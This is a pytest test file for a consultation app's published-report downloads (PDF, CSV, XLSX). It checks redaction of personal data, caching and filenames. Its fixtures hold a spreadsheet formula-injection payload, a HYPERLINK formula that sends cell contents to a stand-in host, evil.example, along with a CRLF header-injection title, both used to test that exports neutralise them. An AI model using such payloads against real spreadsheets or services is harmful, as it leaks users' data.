"""Report downloads: PDF, CSV and XLSX of the published report (F14, SPEC §5)."""

from __future__ import annotations

import csv
import io
import os
from urllib.parse import unquote

import pytest

from consult.answers import exports
from consult.answers.services import publish_report
from consult.comments.models import Category, Channel, CommentStatus, HiddenReason
from consult.jobs.queue import run_due

TITLE = "城市绿化管理办法（征求意见稿）"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
CI = os.environ.get("CI", "").lower() == "true"


@pytest.fixture
def answered(make):
    """A closed consultation whose comments are answered; the report is not yet published."""
    c = make.consultation("closed", title=TITLE)
    approver = make.user("approver", c.unit)
    on_3 = make.comment(c, article=3, body="第三条的期限太短，请联系13912345678或li@example.com。",
                        email="citizen@example.org", phone="13800001111", region="金水区")
    make.answer(on_3, "adopted", None)
    letter = make.comment(c, body=FORMULA, category=Category.ENTERPRISE, channel=Channel.LETTER,
                          email="firm@example.org")
    make.answer(letter, "not_adopted", "+SUM(1,2) 与上位法不一致。")
    whole = make.comment(c, body="@整体上支持。", region="-二七区")
    make.answer(whole, "already_provided", "第九条已有规定。")
    make.comment(c, body="辱骂内容", status=CommentStatus.HIDDEN,
                 hidden_reason=HiddenReason.ABUSIVE)
    make.comment(c, article=3, body="未验证的意见", status=CommentStatus.UNVERIFIED)
    return c, approver


def _published(answered):
    """Publish the report and run the jobs that build its PDF and XLSX."""
    c, approver = answered
    publish_report(c, summary="共收到意见5条，采纳1条。", actor=approver)
    run_due()
    return c


def _csv_rows(response) -> list[list[str]]:
    assert response.data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


@pytest.mark.parametrize("extension", ["pdf", "csv", "xlsx"])
def test_downloads_are_not_found_before_the_report_is_published(client, answered, extension):
    c, _approver = answered
    assert client.get(f"/consultations/{c.id}/report.{extension}").status_code == 404


@pytest.mark.parametrize("extension", ["pdf", "csv", "xlsx"])
def test_downloads_of_drafts_and_unknown_consultations_are_not_found(client, make, extension):
    draft = make.consultation("draft")
    assert client.get(f"/consultations/{draft.id}/report.{extension}").status_code == 404
    assert client.get(f"/consultations/999999/report.{extension}").status_code == 404


def test_the_csv_lists_every_comment_with_its_answer_but_no_contact_data(client, answered):
    c = _published(answered)
    response = client.get(f"/consultations/{c.id}/report.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    rows = _csv_rows(response)
    header, body = rows[0], rows[1:]
    assert header[:2] == ["意见编号", "类型"] and "采纳情况" in header and "理由" in header
    assert len(body) == 5
    by_text = {row[header.index("意见内容")]: row for row in body}
    on_3 = next(row for text, row in by_text.items() if text.startswith("第三条"))
    assert on_3[header.index("条款")] == "第三条"
    assert on_3[header.index("采纳情况")] == "采纳"
    assert on_3[header.index("所在地区")] == "金水区"
    assert "［个人信息已隐去］" in on_3[header.index("意见内容")]
    assert "（该意见不予公开）" in by_text
    assert any(row[header.index("理由")] == "第九条已有规定。" for row in body)
    assert any(row[header.index("意见来源渠道")] == "信函" for row in body)
    text = response.data.decode("utf-8-sig")
    for private in ("13912345678", "li@example.com", "citizen@example.org", "13800001111",
                    "firm@example.org", "辱骂内容"):
        assert private not in text


def test_the_csv_neutralises_formulas(client, answered):
    c = _published(answered)
    rows = _csv_rows(client.get(f"/consultations/{c.id}/report.csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert "'+SUM(1,2) 与上位法不一致。" in cells
    assert "'@整体上支持。" in cells
    assert "'-二七区" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_xlsx_has_items_totals_and_articles_and_no_formulas(client, answered):
    from openpyxl import load_workbook

    c = _published(answered)
    response = client.get(f"/consultations/{c.id}/report.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["意见及答复", "统计", "按条款"]
    items = [[cell.value for cell in row] for row in book["意见及答复"].iter_rows()]
    assert len(items) == 6 and items[0][0] == "意见编号"
    values = [str(v) for row in items for v in row if v is not None]
    assert "'" + FORMULA in values and "第九条已有规定。" in values and "采纳" in values
    assert any("［个人信息已隐去］" in v for v in values)
    for private in ("13912345678", "li@example.com", "citizen@example.org", "辱骂内容"):
        assert not any(private in v for v in values)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    totals = {(row[0], row[1]): row[2] for row in book["统计"].iter_rows(values_only=True)}
    assert totals[("合计", "收到意见")] == 5 and totals[("合计", "已答复")] == 3
    assert totals[("不予公开的原因", "含辱骂、攻击性内容")] == 1
    articles = list(book["按条款"].iter_rows(values_only=True))
    assert articles[0][:3] == ("版本", "条款", "收到意见")
    assert (1, "第三条", 2) in [row[:3] for row in articles[1:]]


def test_downloads_are_named_after_the_consultation(client, answered):
    c = _published(answered)
    for extension in ("pdf", "csv", "xlsx"):
        if extension == "pdf":
            continue  # the PDF test below checks its own headers
        disposition = client.get(f"/consultations/{c.id}/report.{extension}").headers[
            "Content-Disposition"]
        assert disposition.startswith("attachment; ")
        assert f'filename="consultation-{c.id}-report-r1.{extension}"' in disposition
        encoded = disposition.split("filename*=UTF-8''", 1)[1]
        assert unquote(encoded) == f"{TITLE}-意见采纳情况.{extension}"
        assert disposition.isascii()


def test_downloads_follow_the_newest_revision(client, answered, make):
    c, approver = answered
    publish_report(c, summary="第一版", actor=approver)
    first = client.get(f"/consultations/{c.id}/report.csv")
    # a letter recorded late (and answered) goes into the corrected revision only; an
    # unverified comment's text would not be shown at all
    make.answer(make.comment(c, body="发布后才录入的意见", channel=Channel.LETTER), "adopted", None)
    assert "发布后才录入的意见" not in client.get(
        f"/consultations/{c.id}/report.csv").data.decode("utf-8-sig")
    publish_report(c, summary="第二版", actor=approver, correction_note="补录一条信函意见。")
    run_due()
    second = client.get(f"/consultations/{c.id}/report.csv")
    assert "发布后才录入的意见" in second.data.decode("utf-8-sig")
    assert "report-r2.csv" in second.headers["Content-Disposition"]
    assert unquote(second.headers["Content-Disposition"].split("''", 1)[1]).endswith(
        "（第2版）.csv")
    assert first.headers["ETag"] != second.headers["ETag"]


def test_a_repeat_download_with_the_etag_is_not_modified(client, answered):
    c = _published(answered)
    first = client.get(f"/consultations/{c.id}/report.csv")
    assert first.headers["ETag"] and "public" in first.headers["Cache-Control"]
    again = client.get(f"/consultations/{c.id}/report.csv",
                       headers={"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304 and again.data == b""


def test_formula_cells_are_prefixed_and_other_values_kept():
    assert exports.safe_cell("=1+1") == "'=1+1"
    assert exports.safe_cell("\t=1") == "'\t=1"
    assert exports.safe_cell("普通文字") == "普通文字"
    assert exports.safe_cell(5) == 5 and exports.safe_cell(None) is None


def test_the_ascii_filename_survives_hostile_titles(app):
    content = {"consultation_id": 7, "revision": 1, "title": 'a"b/c\\d\r\n<x>'}
    header = exports.content_disposition(content, "csv")
    assert header.startswith('attachment; filename="consultation-7-report-r1.csv"; ')
    assert "\r" not in header and "\n" not in header and header.count('"') == 2
    assert unquote(header.split("''", 1)[1]) == "abcd<x>-意见采纳情况.csv".replace("<x>", "x")


def _weasyprint_or_skip():
    try:
        import weasyprint  # noqa: F401
    except OSError as error:  # Pango or its friends are missing on this machine
        if CI:
            raise
        pytest.skip(f"WeasyPrint's system libraries are missing: {error}")


def test_the_pdf_has_the_chinese_title_answers_and_embedded_fonts(client, answered):
    _weasyprint_or_skip()
    from pypdf import PdfReader

    c = _published(answered)
    response = client.get(f"/consultations/{c.id}/report.pdf")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert f'filename="consultation-{c.id}-report-r1.pdf"' in response.headers[
        "Content-Disposition"]
    assert response.data.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(response.data))
    text = "".join(page.extract_text() for page in reader.pages)
    flat = "".join(text.split())
    assert f"《{TITLE}》意见采纳情况" in flat
    assert "第九条已有规定。" in flat and "不予采纳" in flat and "［个人信息已隐去］" in flat
    assert "共收到意见5条，采纳1条。" in flat
    for private in ("13912345678", "citizen@example.org", "辱骂内容"):
        assert private not in flat
    fonts = set()
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            for descendant in font.get("/DescendantFonts", [font]):
                descriptor = descendant.get_object()["/FontDescriptor"].get_object()
                embedded = any(key in descriptor for key in ("/FontFile", "/FontFile2",
                                                             "/FontFile3"))
                fonts.add((str(font["/BaseFont"]).split("+", 1)[-1], embedded))
    assert any("Noto-Sans-CJK" in name and embedded for name, embedded in fonts), fonts
    assert all(embedded for _name, embedded in fonts), fonts


def test_a_very_long_report_pdf_gives_the_figures_and_points_to_the_full_list(
        client, answered, app, monkeypatch):
    _weasyprint_or_skip()
    from pypdf import PdfReader

    monkeypatch.setitem(app.config, "REPORT_PDF_MAX_ITEMS", 2)
    c = _published(answered)
    response = client.get(f"/consultations/{c.id}/report.pdf")
    flat = "".join("".join(page.extract_text() for page in PdfReader(
        io.BytesIO(response.data)).pages).split())
    assert f"《{TITLE}》意见采纳情况" in flat and "收到意见5条" in flat
    assert "本报告共5条意见" in flat and f"/consultations/{c.id}/report.csv" in flat
    assert "第九条已有规定。" not in flat  # the items are in the CSV/XLSX and on the web page
